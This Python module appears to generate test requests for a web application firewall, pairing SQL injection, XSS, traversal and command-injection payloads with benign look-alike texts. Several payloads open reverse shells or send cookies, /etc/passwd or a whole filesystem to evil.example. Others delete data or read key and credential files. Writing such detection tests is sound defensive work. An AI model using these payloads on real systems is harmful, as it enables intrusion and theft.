"""Requests that a web application firewall should stop, and requests that it should not: all made up here.

Each text is put where its kind can stand: a query's value, a form's, a JSON document's, a path, a cookie.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from urllib.parse import quote, quote_plus

from netlab.proto.http import Headers, RequestHead

Asked = tuple[RequestHead, bytes]

SQLI = (
    "' OR '1'='1",
    "' or 1=1--",
    "1 OR 1=1",
    "1) OR (1=1",
    "' OR 'a' LIKE 'a",
    "admin'--",
    "admin' #",
    "admin'/*",
    "') or ('x'='x",
    "' || 1=1 --",
    "' && '1'='1",
    "x' AND 1=(SELECT COUNT(*) FROM users)--",
    "1 UNION SELECT name, password FROM users",
    "1 UNION ALL SELECT NULL,NULL,NULL--",
    "-1'/**/UN/**/ION/**/SEL/**/ECT/**/1,2,3--",
    "1/**/union/**/select/**/1,2",
    "1 /*!50000union*/ /*!50000select*/ 1,2,3",
    "1%0aUNION%0aSELECT%0a1,2",
    "1; DROP TABLE users",
    "1'; DELETE FROM orders WHERE 1=1;--",
    "1; EXEC xp_cmdshell('dir')",
    "'; WAITFOR DELAY '0:0:5'--",
    "1' AND SLEEP(5)#",
    "1 AND (SELECT pg_sleep(5))",
    "1' AND benchmark(5000000,MD5(1))",
    "1' ORDER BY 10--",
    "1 order by 3#",
    "' AND SUBSTRING(password,1,1)='a",
    "1 AND ASCII(SUBSTR((SELECT name FROM users LIMIT 1),1,1))>64",
    "' UNION SELECT table_name FROM information_schema.tables--",
    "1 AND extractvalue(1,concat(0x7e,version()))",
    "'; INSERT INTO users VALUES('eve','x')--",
    "1 and exists(select * from accounts)",
    "' or ''='",
    '" or ""="',
    "' OR 1 -- -",
    "x' OR email IS NOT NULL OR 'x'='y",
    "1;SELECT load_file('/var/lib/x')",
    "1 INTO OUTFILE '/tmp/x'",
    "CHAR(0x61,0x62) or 1=1",
)
XSS = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(document.cookie)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert`1`>",
    "<body onload=alert('x')>",
    "<iframe src=javascript:alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    "<a href='jav&#x0a;ascript:alert(1)'>x</a>",
    "javascript:alert(document.domain)",
    '" onmouseover="alert(1)',
    "' autofocus onfocus=alert(1) x='",
    "\"><script>fetch('//evil.example/'+document.cookie)</script>",
    "';alert(1);//",
    '"-alert(1)-"',
    "</title><script>eval(name)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "<details open ontoggle=alert(1)>",
    "<input onfocus=alert(1) autofocus>",
    '<math><mi xlink:href="data:text/html,x">',
    "<object data=data:text/html;base64,PHNjcmlwdD4=>",
    "<embed src=//evil.example/x.swf>",
    "<meta http-equiv=refresh content=0;url=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "{{constructor.constructor('alert(1)')()}}",
    "{{7*7}}",
    "${7*7}",
    "<%= 7*7 %>",
    "<video><source onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "＜script＞alert(1)＜/script＞",
    "window['alert'](1)",
    "document.write('<h1>x</h1>')",
    "<style>@import'//evil.example/x.css';</style>",
)
TRAVERSAL = (
    "../../../etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    "..%252f..%252fetc/passwd",
    "....//....//etc/passwd",
    "..\\..\\..\\windows\\system32\\drivers\\etc\\hosts",
    "..%5c..%5cboot.ini",
    "/etc/shadow",
    "file:///etc/passwd",
    "php://filter/convert.base64-encode/resource=index.php",
    "/proc/self/environ",
    "..;/..;/manager/html",
    "%2e%2e%2f%2e%2e%2fsecret.txt",
    "..%c0%af..%c0%afetc/passwd",
    "images/../../../.ssh/id_rsa",
    "../../.env",
    "../../../.git/config",
    "image.png%00.php",
    "expect://id",
    "http://169.254.169.254/latest/meta-data/",
    "gopher://127.0.0.1:6379/_INFO",
    "../../wp-config.php",
    "/var/log/auth.log",
)
COMMAND = (
    "; cat /etc/passwd",
    "| ls -la",
    "&& whoami",
    "; id",
    "|| ping -c 10 127.0.0.1",
    "`id`",
    "$(whoami)",
    "$(curl http://evil.example/x)",
    "; wget http://evil.example/x.sh -O /tmp/x",
    "| nc -e /bin/sh evil.example 4444",
    "; bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
    "& ping -n 10 127.0.0.1 &",
    "; sleep 10",
    "|sleep 10",
    "127.0.0.1; ls",
    "127.0.0.1 && cat /flag",
    "a;cat${IFS}/etc/passwd",
    "{cat,/etc/passwd}",
    "; rm -rf /",
    "; python3 -c 'import os;os.system(\"id\")'",
    "x; powershell -enc AAAA",
    "& cmd /c dir",
    "() { :;}; /bin/bash -c id",
    "${jndi:ldap://evil.example/a}",
    "${${lower:j}ndi:ldap://evil.example/a}",
    "; uname -a",
    "\nwhoami",
    "; nslookup evil.example",
    "system('id')",
    "__import__('os').system('id')",
)
# Others may look at a method, at headers, at what a path is: whole requests.
ANOMALIES: tuple[Asked, ...] = (
    (RequestHead("TRACE", "/"), b""),
    (RequestHead("DEBUG", "/x"), b""),
    (RequestHead("GET", "/x?a=%zz&b=1%20or%201=1"), b""),
    (RequestHead("GET", "/x?next=%0d%0aSet-Cookie:%20sid=1"), b""),
    (RequestHead("GET", "/a%00.jpg"), b""),
    (RequestHead("GET", "/../../etc/passwd"), b""),
    (RequestHead("GET", "/static/..%2f..%2fapp.py"), b""),
    (RequestHead("GET", "/", Headers((("User-Agent", "sqlmap/1.8"),))), b""),
    (RequestHead("GET", "/", Headers((("User-Agent", "() { :; }; /bin/bash -c 'id'"),))), b""),
    (RequestHead("GET", "/", Headers((("User-Agent", "${jndi:ldap://evil.example/a}"),))), b""),
    (RequestHead("GET", "/", Headers((("Referer", "https://a.example/<script>alert(1)</script>"),))), b""),
    (RequestHead("POST", "/x", Headers((("Content-Type", "application/json"),))), b'{"user":{"$ne":null}}'),
    (RequestHead("GET", "/x?user[$ne]=a"), b""),
    (RequestHead("GET", "/x?%2527%2520or%25201%253D1--"), b""),
)

TEXTS = (
    "O'Brien",
    "D'Arcy & sons",
    "it's a dog's life",
    "rock 'n' roll",
    "the boys' -- and the girls' -- shoes",
    "select shoes from our union store",
    "Select Committee on the European Union",
    "credit union select checking account",
    "drop table lamps; order by phone",
    "please update my address and delete the old one",
    "insert coin to continue",
    "where and when do we meet?",
    "black or white = fine with me",
    "1 + 1 = 2",
    "a = b or c = d",
    "2 or 3 = a few",
    "x and y = 7",
    "size: 10 or 12",
    "Order by Friday, group by colour",
    "having fun",
    "the sleep (8 hours) benchmark",
    "sleep benchmark 2024",
    "version (2) of the document",
    "cast of characters (1999)",
    "I like pizza; you like pasta",
    "fish & chips; cat food",
    "salt & pepper, echo & bunnymen",
    "R&D; host the event",
    "AT&T; ping pong table",
    "Tom & Jerry; sleep well",
    "cats | dogs | birds",
    "if (a > b) then swap",
    "a < b and b > c",
    "i <3 you",
    "x <= y",
    "<b>bold</b> and <i>italic</i>",
    "use <br> for a line break",
    "see <https://www.example.com/>",
    "JavaScript: The Good Parts",
    "how to learn JavaScript: a guide",
    "a script for the play",
    "The Script - Hall of Fame",
    "on error = retry",
    "online = true",
    "alert the press",
    "confirm (yes/no)",
    "prompt payment",
    "document location: shelf 3",
    "window size",
    "50% off",
    "100% cotton, 20%-30% wool",
    "C:\\Users\\Ann\\Documents",
    "\\\\server\\share\\file.txt",
    "and/or",
    "either ... or ...",
    "wait...",
    "./configure && make",
    "README.md",
    "https://www.example.com/a/b?c=d&e=f",
    "http://localhost:8080/path",
    "mailto:ann@example.com",
    "ann+tag@example.com",
    "+49 (30) 123-456; ext. 7",
    "#hashtag",
    "C# and F#",
    "$5.00 or $10 (or more)",
    "cost: $100; tax: $7",
    "{name}, welcome",
    "{{first_name}}",
    "[1, 2, 3]",
    "key=value; path=/",
    "2024-05-15T10:30:00Z",
    "550e8400-e29b-41d4-a716-446655440000",
    "eyJhbGciOiJFUzI1NiJ9.eyJzdWIiOiJhIn0.c2ln",
    "Zürich, Köln, São Paulo",
    "日本語のテキスト",
    "Привет, мир",
    "🙂 thanks!!",
    "Dear Sir or Madam, I'd like to order two; please confirm.",
    "Line one\nLine two\nLine three",
    "First; second; third -- done",
    "(see section 4.2) or (appendix B)",
    "\"quoted\" and 'quoted'",
    "'quoted' or 'not quoted'",
    'he said "yes" or "no"',
    "the union of A and B; select one",
    "user's guide (version 2)",
    "what's the password policy?",
    "etc. and so on",
    "/usr/local guide",
    "how do I use /bin/sh? see man sh",
    "git config --global user.name",
    "id: 42; ls: 7",
    "cat /dev/null is a command",
    "eval of the system (final)",
    "the system (v2.0) of a down",
    "function (x) returns x",
    "let f = x => x * 2",
    "SELECT * FROM menu WHERE vegan = true",
    "a || b",
    "true && false",
    "9 - 5 -- overtime",
    "10/*3*/5",
    "look at ../docs/index.html",
    "50/50 or 60/40",
    "100 or 100% = same",
)
BROWSER = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36"
PATHS = (
    "/",
    "/user/42",
    "/user/42/orders?page=2&sort=-created_at",
    "/static/app.3f2a1b.js",
    "/static/css/main.css?v=1.2.3",
    "/.well-known/jwks.json",
    "/.well-known/acme-challenge/Zm9v-YmFy_1",
    "/files/report%202024%20(final).pdf",
    "/a/b.c/d..e/f",
    "/search?q=hello+world&lang=en",
    "/search?q=%E6%97%A5%E6%9C%AC&page=1",
    "/api/v2/items?filter[name]=shoe&filter[size]=42",
    "/api/items?ids=1,2,3&fields=id,name,price",
    "/login?next=%2Faccount%2Forders%3Fpage%3D1",
    "/oauth/callback?code=4%2FP7q7W91&state=af0ifjsldkj",
    "/redirect?url=https%3A%2F%2Fwww.example.com%2F",
    "/map?bbox=13.08,52.33,13.76,52.67",
    "/select?from=union&where=here",
    "/events?since=2024-05-15T10:30:00%2B02:00",
    "/img?w=300&h=200&fit=crop&format=webp",
    "/channels/room-1?last_id=42",
    "/blog/2024/05/how-to-drop-a-table-in-sql",
    "/docs/script/alert",
    "/tags/c%23",
    "/q?discount=50%25&price=%24100",
)


# Made after the rules, which were not changed for them: what is found of these says more than of those above.
LATER_ATTACKS = (
    "5' OR 5=5 LIMIT 1 -- ",
    "x'; UPDATE users SET role='admin' WHERE name='eve",
    "1 UNION SELECT @@version",
    "' AND (SELECT 1 FROM dual WHERE 1=1) --",
    "1' RLIKE SLEEP(3)-- -",
    "1 PROCEDURE ANALYSE()",
    "'; SHUTDOWN;--",
    "' XOR 1=1 XOR '",
    "1 HAVING 1=1",
    "'+(SELECT secret FROM vault)+'",
    "%' OR '%'='",
    "0 || (SELECT 1)",
    "<a onclick=confirm(1)>x</a>",
    "<script>new Image().src='//evil.example/?'+document.cookie</script>",
    '<img src=1 href=1 onerror="javascript:alert(1)"></img>',
    "<form action=javascript:alert(1)><input type=submit>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "'><img src=x onerror=prompt(8)>",
    "<x onpointerenter=alert(1)>",
    "javascript&colon;alert(1)",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "#{7*7}",
    "..\\..\\..\\secret",
    "%2e%2e/%2e%2e/%2e%2e/etc/group",
    "/..../..../etc/passwd",
    "....\\\\....\\\\x",
    "jar:http://evil.example!/x",
    "/home/www/.ssh/authorized_keys",
    "C:\\windows\\win.ini",
    "dict://127.0.0.1:11211/stats",
    "| /usr/bin/id",
    "; perl -e 'print 1'",
    "&& curl -d @/etc/passwd evil.example",
    "a || cat secret.txt",
    "`sleep 5`",
    "$(ping -c 1 evil.example)",
    "; tar cf - / | nc evil.example 1",
    "; echo '<?php phpinfo();' > x.php",
    "a & net user eve /add",
    "; $0 -c id",
)
LATER_TEXTS = (
    "The cat's pyjamas; the bee's knees",
    "Jack & Jill went up the hill; Jack fell down",
    "Do you want 1 or 2? (reply 1 = yes)",
    "either 5 or 5 = ten in all",
    "My name is Robert; call me Bob",
    "Find the union rep and select a time",
    "Delete my account; from tomorrow on",
    "Update: the table is booked",
    "Users' choice -- 2024",
    '"Best in show" or 1st prize',
    "the 'or' and 'and' operators",
    "She said 'no' and 'yes' = maybe",
    "SQL for beginners: SELECT name FROM users",
    "How to use the <script> tag",
    'HTML: <img src="a.png" alt="cat">',
    '<p style="color: red">warning</p>',
    "turn it on = press the button",
    "alert (level 2)",
    "fetch(me)",
    "const x = { a: 1, b: [2, 3] };",
    "for (let i = 0; i < 10; i++) {}",
    '{"nested": {"json": "text"}}',
    "${PRODUCT} costs $7",
    "{{ user.name }}",
    "path ../images/logo.png in the repository",
    "see docs/../README.md",
    "~/Downloads/report.pdf",
    "/etc/ is where settings are",
    "ftp://ftp.example.com/pub",
    "data: text follows",
    "profile: https://social.example/@ann",
    "pipe | separated | values",
    "first && second; then third",
    "ping me at 5; id required",
    "python 3 or ruby; perl if you must",
    "echo chamber; more or less",
    "run `ls -l` to see files",
    "a `quoted` word and an it's",
    "temp: -5 -- -10 C; wind: N/NW",
    'W/"etag"',
)


def later_attacks() -> Iterator[Asked]:
    return (_placed(text, number) for number, text in enumerate(LATER_ATTACKS))


def later_benign() -> Iterator[Asked]:
    return (_placed(text, number) for text in LATER_TEXTS for number in range(4))


def attacks() -> Iterator[tuple[str, Asked]]:
    """Kind, request."""
    for kind, texts in (("sqli", SQLI), ("xss", XSS), ("traversal", TRAVERSAL), ("command", COMMAND)):
        for number, text in enumerate(texts):
            yield kind, _placed(text, number)
    for asked in ANOMALIES:
        yield "protocol", asked


def benign() -> Iterator[Asked]:
    """Each text in each place, and requests as browsers and programs send them."""
    for text in TEXTS:
        for number in range(4):
            yield _placed(text, number)
    for path in PATHS:
        for fields in ((("User-Agent", BROWSER),), (("User-Agent", "curl/7.88.1"), ("Accept", "*/*"))):
            yield RequestHead("GET", path, Headers((("Host", "api.example.com"), *fields))), b""
    cookies = 'sid=s%3Aa.b%2Bc; theme=dark; _ga=GA1.2.3.4; consent={"a":1}; cart=[1,2]'
    referer = "https://www.example.com/search?q=O%27Brien&page=1"
    for method in ("GET", "HEAD", "DELETE", "OPTIONS"):
        told = (("User-Agent", BROWSER), ("Cookie", cookies), ("Referer", referer))
        yield RequestHead(method, "/account", Headers(told)), b""


def _placed(text: str, number: int) -> Asked:
    """In a query, a form, a JSON document or a cookie, by turns."""
    query = text if "%" in text and " " not in text else quote_plus(text)  # some are encoded by the attacker
    agent = ("User-Agent", BROWSER)
    match number % 4:
        case 0:
            return RequestHead("GET", f"/search?q={query}&page=1", Headers((agent,))), b""
        case 1:
            kind = ("Content-Type", "application/x-www-form-urlencoded")
            return RequestHead(
                "POST", "/form", Headers((agent, kind))
            ), f"a=1&text={quote_plus(text)}".encode()
        case 2:
            kind = ("Content-Type", "application/json")
            document = json.dumps({"id": 7, "items": [{"text": text}]})
            return RequestHead("POST", "/api", Headers((agent, kind))), document.encode()
        case _:
            return RequestHead("GET", "/", Headers((agent, ("Cookie", f"sid=1; last={quote(text)}")))), b""
